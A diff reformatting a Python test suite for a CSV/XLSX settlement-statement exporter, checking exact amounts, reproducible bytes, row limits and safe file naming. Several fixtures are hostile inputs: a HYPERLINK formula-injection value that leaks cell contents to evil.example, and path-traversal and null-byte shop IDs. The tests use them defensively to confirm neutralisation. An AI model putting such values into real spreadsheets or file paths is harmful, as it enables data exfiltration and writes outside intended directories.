@@ -34,7 +34,10 @@ def _order_details(statement_of_row: list[int], names: list[str]) -> tuple[pl.Da
         pl.lit(date(2026, 10, 1)).alias("order_created_date"),
     )
     statements = pl.DataFrame({"statement_id": sorted(set(sid), key=lambda s: int(s[1:]))}).with_columns(
-        pl.when(pl.col("statement_id").str.slice(1).cast(pl.Int64) % 2 == 0).then(pl.lit("SHOP01")).otherwise(pl.lit("SHOP02")).alias("shop_id")
+        pl.when(pl.col("statement_id").str.slice(1).cast(pl.Int64) % 2 == 0)
+        .then(pl.lit("SHOP01"))
+        .otherwise(pl.lit("SHOP02"))
+        .alias("shop_id")
     )
     return frame, statements
 
@@ -43,7 +46,9 @@ def _one_by_one(order_details: pl.DataFrame, statements: pl.DataFrame, directory
     """The reference: one `write_csv` per statement, its rows in their input order."""
     labelled = exports._labelled(order_details, ORDER_DETAILS_LABELS, "statement_id")
     shop = dict(zip(statements["statement_id"], statements["shop_id"], strict=True))
-    for (sid,), rows in labelled.partition_by("statement_id", as_dict=True, maintain_order=True, include_key=False).items():
+    for (sid,), rows in labelled.partition_by(
+        "statement_id", as_dict=True, maintain_order=True, include_key=False
+    ).items():
         (directory / shop[sid]).mkdir(parents=True, exist_ok=True)
         rows.write_csv(directory / shop[sid] / f"{sid}.csv")
 
@@ -54,7 +59,11 @@ def _files(directory: Path) -> dict[str, bytes]:
 
 @settings(max_examples=40, deadline=None)
 @given(
-    rows=st.lists(st.tuples(st.integers(0, 6), st.sampled_from(["Mug", "Tee, large", 'Say "hi"', "two\nlines", "a\r\nb", ""])), min_size=1, max_size=40),
+    rows=st.lists(
+        st.tuples(st.integers(0, 6), st.sampled_from(["Mug", "Tee, large", 'Say "hi"', "two\nlines", "a\r\nb", ""])),
+        min_size=1,
+        max_size=40,
+    ),
     chunk=st.integers(1, 12),
 )
 def test_exports_equal_one_write_per_statement(tmp_path_factory, rows, chunk):
@@ -70,7 +79,7 @@ def test_exports_equal_one_write_per_statement(tmp_path_factory, rows, chunk):
 _TEXT = st.one_of(st.none(), st.text(alphabet=st.sampled_from(list('ab ,"\r\n\t;é0.-')), max_size=6))
 _CELL = {
     "text": _TEXT,
-    "money": st.one_of(st.none(), st.integers(-10**6, 10**6)),
+    "money": st.one_of(st.none(), st.integers(-(10**6), 10**6)),
     "int": st.one_of(st.none(), st.integers(-5, 5)),
 }
 
@@ -89,17 +98,26 @@ def test_compact_rows_write_the_bytes_of_necessary_quoting(spec, height, data):
         values = [data.draw(_CELL[kind])] * height if constant else [data.draw(_CELL[kind]) for _ in range(height)]
         series = pl.Series(f"c{i}", values, {"text": pl.String, "money": pl.Int64, "int": pl.Int64}[kind])
         columns[f"c{i}"] = series.cast(MONEY) / 100 if kind == "money" else series
-    frame = pl.DataFrame(columns).with_columns(pl.col(c).cast(MONEY) for c, (kind, _) in zip(columns, spec, strict=True) if kind == "money")
+    frame = pl.DataFrame(columns).with_columns(
+        pl.col(c).cast(MONEY) for c, (kind, _) in zip(columns, spec, strict=True) if kind == "money"
+    )
     compact = exports._compact(frame)
-    assert bytes(exports._csv_bytes(compact, header=False, quote_style="never")) == bytes(exports._csv_bytes(frame, header=False))
+    assert bytes(exports._csv_bytes(compact, header=False, quote_style="never")) == bytes(
+        exports._csv_bytes(frame, header=False)
+    )
     assert compact.width <= frame.width
 
 
 def test_compact_merges_adjacent_constant_columns():
-    frame = pl.DataFrame({"a": ["x", "y"], "b": ["", ""], "c": ["Computed", "Computed"], "d": ["1,5", "2"], "e": [0, 0]})
+    frame = pl.DataFrame(
+        {"a": ["x", "y"], "b": ["", ""], "c": ["Computed", "Computed"], "d": ["1,5", "2"], "e": [0, 0]}
+    )
     compact = exports._compact(frame)
     assert compact.columns == ["a", "b", "d", "e"]  # b and c as one field; e alone stays a column
-    assert bytes(exports._csv_bytes(compact, header=False, quote_style="never")) == b'x,"",Computed,"1,5",0\ny,"",Computed,2,0\n'
+    assert (
+        bytes(exports._csv_bytes(compact, header=False, quote_style="never"))
+        == b'x,"",Computed,"1,5",0\ny,"",Computed,2,0\n'
+    )
 
 
 def test_exports_header_and_rows(tmp_path):
@@ -125,32 +143,57 @@ def _sheets(path: Path) -> dict[str, pl.DataFrame]:
 
 
 def _statement_header() -> pl.DataFrame:
-    return pl.DataFrame({"Statement ID": ["S0"], "Total settlement amount": ["-1234567.89"]}).with_columns(pl.col("Total settlement amount").cast(MONEY))
+    return pl.DataFrame({"Statement ID": ["S0"], "Total settlement amount": ["-1234567.89"]}).with_columns(
+        pl.col("Total settlement amount").cast(MONEY)
+    )
 
 
 def test_xlsx_holds_the_statement_and_its_rows_as_text_and_exact_numbers(tmp_path):
-    details = pl.DataFrame({
-        "Order/adjustment ID": ["576460752303423488123", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1", "@SUM(A1)"],
-        "Quantity": [1, 2, 3, 4],
-        "Total settlement amount": ["0.10", "-0.01", "9999999999999.99", "12.30"],
-    }).with_columns(pl.col("Total settlement amount").cast(MONEY))
+    details = pl.DataFrame(
+        {
+            "Order/adjustment ID": [
+                "576460752303423488123",
+                '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+                "+1",
+                "@SUM(A1)",
+            ],
+            "Quantity": [1, 2, 3, 4],
+            "Total settlement amount": ["0.10", "-0.01", "9999999999999.99", "12.30"],
+        }
+    ).with_columns(pl.col("Total settlement amount").cast(MONEY))
     exports.write_xlsx(tmp_path / "S0.xlsx", _statement_header(), details)
     sheets = _sheets(tmp_path / "S0.xlsx")
     assert list(sheets) == ["Statements", "Order details"]
     assert sheets["Statements"].to_dicts() == [{"Statement ID": "S0", "Total settlement amount": "-1234567.89"}]
     back = sheets["Order details"]
     # Long IDs never pass through a float; text a spreadsheet would run gets the CSV's `'` in front.
-    assert back["Order/adjustment ID"].to_list() == ["576460752303423488123", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1", "'@SUM(A1)"]
+    assert back["Order/adjustment ID"].to_list() == [
+        "576460752303423488123",
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "'+1",
+        "'@SUM(A1)",
+    ]
     assert back["Quantity"].to_list() == ["1", "2", "3", "4"]
     with zipfile.ZipFile(tmp_path / "S0.xlsx") as archive:
         sheet = archive.read("xl/worksheets/sheet2.xml").decode()
-    assert re.findall("<v>([^<]*)</v>", sheet) == ["1", "0.1", "2", "-0.01", "3", "9999999999999.99", "4", "12.3"]  # each amount's own decimal
+    assert re.findall("<v>([^<]*)</v>", sheet) == [
+        "1",
+        "0.1",
+        "2",
+        "-0.01",
+        "3",
+        "9999999999999.99",
+        "4",
+        "12.3",
+    ]  # each amount's own decimal
     assert "<f>" not in sheet  # text that looks like a formula is written as text, never as a formula
     assert sheet.count('t="inlineStr"') == 3 + 4
 
 
 def test_xlsx_bytes_are_reproducible(tmp_path):
-    details = pl.DataFrame({"SKU ID": ["A", "B"], "Net sales": ["1.00", "2.50"]}).with_columns(pl.col("Net sales").cast(MONEY))
+    details = pl.DataFrame({"SKU ID": ["A", "B"], "Net sales": ["1.00", "2.50"]}).with_columns(
+        pl.col("Net sales").cast(MONEY)
+    )
     exports.write_xlsx(tmp_path / "a.xlsx", _statement_header(), details)
     exports.write_xlsx(tmp_path / "b.xlsx", _statement_header(), details)
     assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
@@ -176,11 +219,15 @@ def test_excel_row_limit_splits_a_statement_of_more_than_a_million_rows(tmp_path
     assert first.len() == 1_048_575 and second.to_list() == [float(rows - 2), float(rows - 1)]
 
 
-@pytest.mark.parametrize("shop", ["../../../../elsewhere", "/srv/elsewhere/SHOPX", "a/b", "nul\x00byte", ".", "..", "x" * 100_000, "Café €"])
+@pytest.mark.parametrize(
+    "shop", ["../../../../elsewhere", "/srv/elsewhere/SHOPX", "a/b", "nul\x00byte", ".", "..", "x" * 100_000, "Café €"]
+)
 def test_export_file_names_stay_inside_the_directory_whatever_the_id(tmp_path, shop):
     order_details, statements = _order_details([0, 1, 1], ["Mug", "Tee", "Cap"])
     order_details = order_details.with_columns((pl.lit(shop) + "-" + pl.col("statement_id")).alias("statement_id"))
-    statements = statements.with_columns(pl.lit(shop).alias("shop_id"), (pl.lit(shop) + "-" + pl.col("statement_id")).alias("statement_id"))
+    statements = statements.with_columns(
+        pl.lit(shop).alias("shop_id"), (pl.lit(shop) + "-" + pl.col("statement_id")).alias("statement_id")
+    )
     target = tmp_path / "exports"
     assert exports.write_exports(order_details, statements, target, xlsx=False) == 2
     written = sorted(p for p in tmp_path.rglob("*") if p.is_file())
@@ -197,7 +244,14 @@ def test_file_names_of_distinct_ids_are_distinct():
 
 
 def test_csv_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers(tmp_path):
-    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 phone case", "-20% hoodie", "@SUM(A1)", "\tTab", "Mug = cup"]
+    names = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1 phone case",
+        "-20% hoodie",
+        "@SUM(A1)",
+        "\tTab",
+        "Mug = cup",
+    ]
     order_details, statements = _order_details([0] * len(names), names)
     order_details = order_details.with_columns(pl.Series("total_settlement_amount", ["-1.05"] * len(names)).cast(MONEY))
     exports.write_exports(order_details, statements, tmp_path, xlsx=False)
@@ -209,6 +263,11 @@ def test_csv_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_n
 
 
 def test_an_amount_an_xlsx_number_cannot_hold_exactly_stops_the_export():
-    header = pl.DataFrame({"Total settlement amount": ["10000000000000.00"]}).with_columns(pl.col("Total settlement amount").cast(MONEY))
-    with pytest.raises(exports.ExportError, match=r"sheet 'Statements': an amount of 10000000000000.00 has more digits than an XLSX number holds exactly"):
+    header = pl.DataFrame({"Total settlement amount": ["10000000000000.00"]}).with_columns(
+        pl.col("Total settlement amount").cast(MONEY)
+    )
+    with pytest.raises(
+        exports.ExportError,
+        match=r"sheet 'Statements': an amount of 10000000000000.00 has more digits than an XLSX number holds exactly",
+    ):
         exports.write_xlsx(Path("/nonexistent/never-written.xlsx"), header, header)
